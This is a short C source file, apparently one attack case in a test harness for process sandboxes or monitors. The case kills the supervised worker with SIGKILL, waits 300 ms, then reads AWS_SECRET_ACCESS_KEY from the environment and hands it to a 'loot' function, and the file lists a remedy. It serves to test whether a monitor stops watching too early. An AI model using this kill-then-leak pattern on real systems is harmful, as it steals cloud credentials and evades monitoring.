// SPDX-License-Identifier: MIT
/*
 * Kills the worker that started it, waits, and only then leaks. Who stops looking when the worker
 * dies sees nothing: breached. Where there was nothing to leak, the witness died: unproven.
 */
#include "attacks/attack.h"

#include <signal.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>

static enum claim run(const struct brief *b)
{
	const char *secret = getenv("AWS_SECRET_ACCESS_KEY");

	attempting(b);
	if (kill(b->worker, SIGKILL))
		return denied("kill");
	nanosleep(&(struct timespec){ .tv_nsec = 300000000 }, NULL);
	if (secret)
		loot(secret, strlen(secret));
	return CLAIM_DONE;
}

const struct attack attack = {
	.effect = "a credential leaves when the worker is gone",
	.means = "kill(2) of the worker, 300 ms of patience, getenv(3)",
	.oracle = "secret:environ",
	.remedy = "a keeper that does not depend on the worker",
	.run = run,
};
